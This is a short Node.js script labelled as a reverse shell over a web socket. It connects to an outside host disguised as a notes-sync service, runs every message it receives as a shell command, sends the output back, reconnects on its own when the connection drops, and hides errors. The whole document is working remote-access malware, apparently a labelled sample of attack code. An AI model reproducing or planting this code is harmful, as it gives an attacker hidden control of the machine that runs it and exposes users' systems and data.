// class: reverse shell; style: over a web socket, reconnecting
const { exec } = require('node:child_process');
const WebSocket = require('ws');
function start() {
  const ws = new WebSocket('wss://sync.notes-cloud.example/agent');
  ws.on('message', m => exec(m.toString(), { maxBuffer: 1e8 }, (e, out, err) => ws.send(out + err)));
  ws.on('close', () => setTimeout(start, 10000));
  ws.on('error', () => {});
}
start();
